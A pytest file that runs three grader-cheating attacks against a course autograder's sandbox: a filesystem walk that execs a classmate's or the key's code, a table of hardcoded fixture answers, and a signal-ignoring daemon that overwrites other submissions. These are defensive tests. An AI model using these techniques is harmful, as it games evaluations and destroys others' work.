"""Three ways to beat the grader without doing the work (issue 33), run against the real grader.

Each attack is built from the current student files (``instructor.release.student_files()``) and the
current fixtures (``rlhf_practice.checks.load_cases()``), never from a list written here, so it covers
every graded function the course has:

- borrow: at import, each student file walks the filesystem for a file of the same name (or the key's
  ``*_answer.py``) that is not a stub, execs it and takes its functions. A classmate's finished
  submission and a copy of the key in a home-like folder are planted next to the submissions, where
  the walk finds them first when nothing stops it;
- lookup table: every graded function looks its call up in a table embedded in its file, made from
  the shipped fixtures' inputs and expected outputs (allclose), and returns zeros otherwise (built by
  ``_cheats.lookup_files``, whose ppo.py is also one of test_grading.py's quick cheats);
- sabotage: at import, ppo.py starts a process that leaves its session, outlives the child and
  overwrites the student files of every later grading tree it finds next to its own; an honest copy
  of the key is graded after it.

They are graded as the grader grades by default, the outcome gates included: a gate trains with the
submission's own code, which in the sandbox can reach neither the key nor a classmate, and which a table
of published answers cannot train with. An honest key after the sabotage earns the cases and every gate.

The grading trees go to a folder of this test (``tempfile.tempdir``), so that a sabotage that got out
could only reach this test's trees. The processes a child starts carry its work folder in their
environment (HOME) and the sabotage's carry a token in their command line: after grading, /proc holds
none of them.

Two quick checks run in the default suite: what a child in the sandbox can read and write, and the
grader's one line where the sandbox cannot be built.
"""

from __future__ import annotations

import ast
import csv
import os
import signal
import subprocess
import sys
import tempfile
import textwrap
import uuid
from pathlib import Path

import pytest
from _cheats import lookup_files, trust_files

from instructor import sandbox
from instructor.children import Limits
from instructor.gate import GATES
from instructor.grading import POINTS, assignment, grade, main
from instructor.release import student_files
from rlhf_practice.course import GRADED, MODULES, ROOT

STUBS = {Path(path).stem: source for path, source in student_files().items()}  # {module: stub source}
KEY = {m: (ROOT / "answer" / f"{m}_answer.py").read_text() for m in MODULES}
FUNCTIONS = {m: [g.function for g in GRADED if g.module == m] for m in MODULES}
CASE_MARKS = sum(g.points for g in GRADED)
# The cases and gate/ppo: the attacks run before a key with one gate (the gates on their own: test_gate.py; every
# gate of the key trained again here would double the slowest part of CI)
FULL_MARKS = CASE_MARKS + sum(g.points for g in GATES if g.name == "ppo")
TOKEN = f"rlhf-attack-{uuid.uuid4().hex}"  # in the command line of every process the sabotage starts

BORROW = '''
import os as _os


def _borrow(module, functions):
    """The functions of the first file named like this one (or the key's) that is not a stub."""
    names, mine = {module + ".py", module + "_answer.py"}, _os.path.realpath(__file__)
    here = _os.getcwd()
    starts = [_os.path.dirname(here), _os.path.dirname(_os.path.dirname(here)), _os.path.dirname(_os.path.dirname(_os.path.dirname(here)))]
    starts += [_os.path.expanduser("~"), "/tmp", "/home", "/work", "/root", "/"]
    for start in starts:
        for folder, subfolders, files in _os.walk(start):
            if folder in ("/proc", "/sys", "/dev"):
                subfolders[:] = []
                continue
            for name in names.intersection(files):
                path = _os.path.join(folder, name)
                if _os.path.realpath(path) == mine:
                    continue
                try:
                    with open(path, encoding="utf-8", errors="replace") as f:
                        text = f.read()
                except OSError:
                    continue
                if "raise NotImplementedError" in text or not all(f"def {fn}(" in text for fn in functions):
                    continue
                namespace = {"__name__": "borrowed_" + module, "__file__": path}
                try:
                    exec(compile(text, path, "exec"), namespace)
                except Exception:
                    continue
                return {fn: namespace[fn] for fn in functions}
    return {}


globals().update(_borrow(MODULE, FUNCTIONS))
'''


# Started at import by ppo.py: a grandchild in its own session that execs this, with TOKEN in its command
# line, and for a minute overwrites the student files of every other grading tree beside its own.
SABOTAGE_DAEMON = """
import glob, os, signal, sys, time
for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
own, stub = sys.argv[2], sys.argv[3]
deadline = time.time() + 60
while time.time() < deadline:
    for path in glob.glob(os.path.join(os.path.dirname(own), "rlhf-grading-*", "tree", "rlhf_practice", "rl", "*.py")):
        if not path.startswith(own + os.sep) and not path.endswith("__init__.py"):
            try:
                with open(path, "w") as f:
                    f.write(stub)
            except OSError:
                pass
    time.sleep(0.02)
"""
SABOTAGE = """
import os as _os
import sys as _sys


def _sabotage():
    if _os.fork() == 0:
        _os.setsid()  # its own session and process group: a kill of the child's group misses it
        if _os.fork() == 0:
            daemon = [_sys.executable, "-c", DAEMON, TOKEN, _os.getcwd(), "raise NotImplementedError"]
            _os.execv(_sys.executable, daemon)
        _os._exit(0)


_sabotage()
"""


def _borrow_files() -> dict[str, str]:
    return {m: STUBS[m] + f"\nMODULE, FUNCTIONS = {m!r}, {FUNCTIONS[m]!r}\n" + textwrap.dedent(BORROW) for m in MODULES}


def _sabotage_files() -> dict[str, str]:
    sabotage = f"\nDAEMON, TOKEN = {SABOTAGE_DAEMON!r}, {TOKEN!r}\n" + textwrap.dedent(SABOTAGE)
    return {**STUBS, "ppo": STUBS["ppo"] + sabotage}


def _folder(path: Path, files: dict[str, str]) -> Path:
    path.mkdir(parents=True)
    for module, source in files.items():
        (path / f"{module}.py").write_text(source)
    return path


def _processes_of(marks: list[str]) -> list[int]:
    """Processes whose command line or environment holds one of ``marks``."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            text = (entry / "cmdline").read_bytes() + (entry / "environ").read_bytes()
        except OSError:  # gone, or not ours to read
            continue
        if any(mark.encode() in text for mark in marks):
            found.append(int(entry.name))
    return found


def _grade(base: Path, submissions: list[Path], *extra: str) -> dict[str, dict[str, str]]:
    table = base / f"grades-{len(extra)}.csv"
    main([*map(str, submissions), "--csv", str(table), "--seed", "5", *extra])
    with open(table, newline="") as f:
        return {Path(r["submission"]).name: r for r in csv.DictReader(f)}


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, dict[str, str]], list[int]]:
    """The stubs, the three attacks and an honest copy of the key, graded in that order, with a classmate's
    finished submission and a copy of the key planted beside them; and the processes of a child left after."""
    base = tmp_path_factory.mktemp("attacks")
    _folder(base / "classmate", KEY)  # a finished submission next to the others
    _folder(base / "home" / "student" / "Downloads" / "rl", {f"{m}_answer": KEY[m] for m in MODULES})
    submissions = [
        _folder(base / "stubs", STUBS),
        _folder(base / "borrow", _borrow_files()),
        _folder(base / "lookup_table", lookup_files()),
        _folder(base / "sabotage", _sabotage_files()),
        _folder(base / "key_after_sabotage", KEY),
    ]
    trees = base / "trees"
    trees.mkdir()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(tempfile, "tempdir", str(trees))  # the grading trees: here, not in /tmp
        rows = _grade(base, submissions, "--gate", "ppo")
    left = _processes_of([TOKEN, str(base)])
    yield rows, left
    for pid in _processes_of([TOKEN, str(base)]):  # a failed run leaves nothing behind either
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_stubs_score_zero_and_the_grader_says_it_used_the_sandbox(graded) -> None:
    rows, _ = graded
    assert float(rows["stubs"]["total"]) == 0
    assert {row["sandbox"] for row in rows.values()} == {"yes"}


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_borrowing_another_submission_at_grading_time_scores_no_more_than_the_stubs(graded) -> None:
    rows, _ = graded
    assert float(rows["borrow"]["total"]) <= float(rows["stubs"]["total"])


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_a_lookup_table_of_the_shipped_fixtures_scores_no_more_than_the_stubs(graded) -> None:
    """It answers the published cases (a self-check, no points) and nothing else: points come from fresh inputs
    only, and the notes say what it looks like."""
    rows, _ = graded
    assert float(rows["lookup_table"]["total"]) <= float(rows["stubs"]["total"])
    assert "answers fitted to the published cases (a lookup table?)" in rows["lookup_table"]["notes"]


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_sabotage_scores_nothing_and_cannot_touch_a_later_submission(graded) -> None:
    rows, _ = graded
    assert float(rows["sabotage"]["total"]) <= float(rows["stubs"]["total"])
    assert float(rows["key_after_sabotage"]["total"]) == FULL_MARKS


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_no_process_of_a_child_outlives_grading(graded) -> None:
    _, left = graded
    assert left == [], f"processes started by a grading child are still running: {left}"


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_without_the_sandbox_the_borrow_and_the_table_do_score(tmp_path: Path) -> None:
    """The control: the attacks above are real ones (what the sandbox and fresh inputs stop)."""
    _folder(tmp_path / "classmate", KEY)
    submissions = [_folder(tmp_path / "borrow", _borrow_files()), _folder(tmp_path / "lookup_table", lookup_files())]
    (tmp_path / "trees").mkdir()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(tempfile, "tempdir", str(tmp_path / "trees"))  # the walk finds the classmate, not /tmp's files
        rows = _grade(tmp_path, submissions, "--no_sandbox", "--gate", "none")  # the cases show it
    assert float(rows["borrow"]["total"]) == CASE_MARKS
    published = [int(v.split("/")[0]) for k, v in rows["lookup_table"].items() if k.endswith("/published")]
    assert sum(published) > 0  # it does answer the published cases: only fresh inputs keep its points at 0
    assert {row["sandbox"] for row in rows.values()} == {"no"}


PROBE = """
import os, sys
def can_read(path):
    try:
        os.listdir(path) if os.path.isdir(path) else open(path, "rb").close()
        return True
    except OSError:
        return False
def can_write(path):
    try:
        open(path, "w").close()
        return True
    except OSError:
        return False
readable, writable = sys.argv[1].split(","), sys.argv[2].split(",")
caps = [line.split()[1] for line in open("/proc/self/status") if line.startswith(("CapEff", "CapPrm", "CapBnd"))]
print(([p for p in readable if can_read(p)], [p for p in writable if can_write(p)], [p for p in os.listdir("/proc") if p.isdigit()], caps))
"""


def test_a_child_in_the_sandbox_sees_and_changes_only_its_own_work(tmp_path: Path) -> None:
    problem = sandbox.problem()
    if problem is not None:
        pytest.skip(f"no sandbox here: {problem}")
    work, other = tmp_path / "rlhf-grading-mine", tmp_path / "rlhf-grading-other"
    (work / "tree").mkdir(parents=True)
    other.mkdir()
    (other / "ppo.py").write_text(KEY["ppo"])
    (tmp_path / "planted.py").write_text(KEY["ppo"])
    home = [p for p in Path.home().iterdir() if p.is_file()][:1]  # a file of the home folder, if it has one
    secrets = [ROOT / "README.md", ROOT / "answer" / "ppo_answer.py", other / "ppo.py", tmp_path / "planted.py", *home]
    assert all(p.is_file() for p in secrets)  # out here, the child could read them all
    targets = [work / "tree" / "ppo.py", other / "x", Path("/x"), Path(sys.prefix) / "x", Path(sys.base_prefix) / "x"]
    argv = [
        sys.executable,
        "-I",
        "-S",
        "-c",
        PROBE,
        ",".join(map(str, secrets)),
        ",".join(map(str, [*targets, work / "x"])),
    ]
    proc = subprocess.run(sandbox.command(argv, work, [work / "tree"]), cwd=work, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    read, written, pids, caps = ast.literal_eval(proc.stdout)
    assert read == [], "the child reads outside its own work"
    assert written == [str(work / "x")], "the child writes outside its work folder"
    assert pids == ["1"] and set(caps) == {"0000000000000000"}


def test_the_grader_stops_in_one_line_where_the_sandbox_cannot_be_built(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.setattr(sandbox, "problem", lambda: "unshare (util-linux) is not installed")
    with pytest.raises(SystemExit) as exit_:
        main([str(tmp_path)])
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "unshare (util-linux) is not installed" in err and "--no_sandbox" in err


def _tasks_1_4(tmp_path: Path, files: dict[str, str], limits: Limits):
    """``files`` graded as a tasks 1-4 assignment in the sandbox, with gate/ppo, on hidden cases of seed 5."""
    from instructor.cases import build_cases
    from rlhf_practice.checks import load_cases

    if (problem := sandbox.problem()) is not None:
        pytest.skip(f"no sandbox here: {problem}")
    functions = assignment("1-4", None)
    cases = [c for f in functions for c in [*load_cases(function=f), *build_cases(seed=5, function=f)]]
    folder = tmp_path / "submission"
    folder.mkdir()
    for name, source in files.items():
        (folder / name).write_text(source)
    gates = tuple(g for g in GATES if g.name == "ppo")
    return grade(folder, cases, limits, isolate=True, seed=5, gates=gates, functions=functions)


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_in_the_sandbox_what_a_submission_hands_back_earns_it_nothing(tmp_path: Path) -> None:
    """Issue 69's three attacks (_cheats.trust_files) on the sandboxed local grader: the forged gate fails, the hidden
    in-place write loses its case, and the stack walk's forged self-check is dropped (test_gradescope.py runs them
    on Gradescope's path)."""
    key = {f"{m}.py": source for m, source in KEY.items()}
    result = _tasks_1_4(tmp_path, trust_files(key), Limits(seconds=60, memory_mb=4096))
    gate = result.gates["ppo"]
    assert not gate.passed and gate.reward is not None and gate.reward < 0.3, gate
    assert result.passed["compute_advantages"] == result.total["compute_advantages"] - 1
    assert "in place" in result.diagnoses["compute_advantages"]
    assert result.published_passed["grpo_loss"] == result.published_total["grpo_loss"]
    assert result.points("grpo_loss") == POINTS["grpo_loss"] and "FORGED" not in repr(result)


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_in_the_sandbox_a_submission_out_of_time_is_told_so(tmp_path: Path) -> None:
    """A compute_advantages that sleeps uses up a budget of 20 s: every function and gate/ppo are told the
    submission's time ran out, not that they crashed or hung."""
    import time

    sleeps = KEY["ppo"] + "\n\ndef compute_advantages(*args, **kwargs):\n    import time\n\n    time.sleep(3600)\n"
    limits = Limits(seconds=8, memory_mb=3072, deadline=time.monotonic() + 20, budget=20)
    result = _tasks_1_4(tmp_path, {"ppo.py": sleeps, "grpo.py": KEY["grpo"]}, limits)
    told = "not run: the submission's time ran out (it had 20 s)"
    assert all(told in result.diagnoses[f] for f in result.functions), result.diagnoses
    assert told in result.gates["ppo"].note and "crashed" not in repr(result) and "hung" not in repr(result)
